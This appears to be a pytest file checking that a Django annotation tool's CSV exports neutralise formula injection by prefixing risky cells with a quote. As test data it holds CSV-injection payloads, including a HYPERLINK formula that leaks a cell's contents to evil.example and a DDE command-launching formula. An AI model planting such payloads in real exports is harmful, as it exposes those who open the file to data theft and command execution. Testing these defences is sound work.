"""CSV exports never carry a formula (issue 14 item 7, OWASP "CSV injection"): a text cell that a
spreadsheet would run (starting with = + - @ TAB CR) gets a leading "'"; JSONL keeps the text."""

import csv
import json

import pytest
from django.utils import timezone

from annotate import services
from annotate.exports import services as exports
from annotate.models import GoldLabel, Task

from ..factories import CampaignFactory, ModelVersionFactory, ProductFactory, task_with_candidates, user_with_role

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR"]


@pytest.fixture
def settled(db):
    """Gold tasks whose settled product has a dangerous SKU, and a model-settled task whose model
    version has a dangerous name."""
    campaign = CampaignFactory(slug="csv", gold_first_count=0, gold_rate=0)
    for sku in DANGEROUS:
        task = task_with_candidates(campaign, products=[ProductFactory(sku=sku), ProductFactory(), ProductFactory()])
        services.gold_set(task=task, label="1", source=GoldLabel.Source.MANUAL)
        person = user_with_role("employee")
        services.answer_submit(
            user=person, task=task, choice="product", product_uuid=task.candidates.get(rank=1).product.uuid,
            duration_ms=1500, idempotency_key=f"k-{sku}",
        )
    model_task = task_with_candidates(campaign)
    Task.objects.filter(pk=model_task.pk).update(
        status=Task.Status.COMPLETE, label="2", confidence=0.99, posterior={"2": 0.99, "1": 0.01},
        completed_at=timezone.now(), label_model_version=ModelVersionFactory(name="=cmd|' /C calc'!A0"),
    )
    return campaign


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_no_csv_cell_of_an_export_starts_a_formula(settled, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        snapshot = exports.export_create(
            name="csv", formats=["csv", "crowdkit", "jsonl"], include_answers=True, include_reliability=True
        )
    snapshot.refresh_from_db()
    csv_files = [f["path"] for f in snapshot.files if f["path"].endswith(".csv")]
    assert {"csv/items.csv", "csv/answers.csv", "csv/annotators.csv", "crowdkit/answers.csv"} <= set(csv_files)
    for name in csv_files:
        for cell in _cells(exports.export_file_path(snapshot=snapshot, path=name)):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    items = _cells(exports.export_file_path(snapshot=snapshot, path="csv/items.csv"))
    for sku in DANGEROUS:
        assert "'" + sku in items
    assert "'=cmd|' /C calc'!A0" in items
    # JSONL is data, not a spreadsheet: the SKU is kept as it is.
    rows = exports.export_file_path(snapshot=snapshot, path="jsonl/items.jsonl").read_text().splitlines()
    skus = {json.loads(r)["labels"]["match"]["sku"] for r in rows}
    assert set(DANGEROUS) <= skus


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-1, -1), (1.5, 1.5), (None, None), (True, True)],
)
def test_csv_cell(value, expected):
    from annotate.exports.formats import csv_cell

    assert csv_cell(value) == expected


def test_a_carriage_return_inside_a_cell_is_quoted_and_reads_back(tmp_path):
    """A bare CR was written unquoted (the csv module quotes only its lineterminator's characters)
    and split the row in two when read back."""
    from annotate.exports.formats import _csv_writer

    with open(tmp_path / "x.csv", "w", encoding="utf-8", newline="") as fh:
        writer = _csv_writer(fh)
        writer.writerow(["a\rb", "c\r\n", "d"])
        writer.writerow(["e", "f", "g"])
    raw = (tmp_path / "x.csv").read_bytes()
    assert raw == b'"a\rb","c\r\n",d\ne,f,g\n'
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as fh:
        assert list(csv.reader(fh)) == [["a\rb", "c\r\n", "d"], ["e", "f", "g"]]
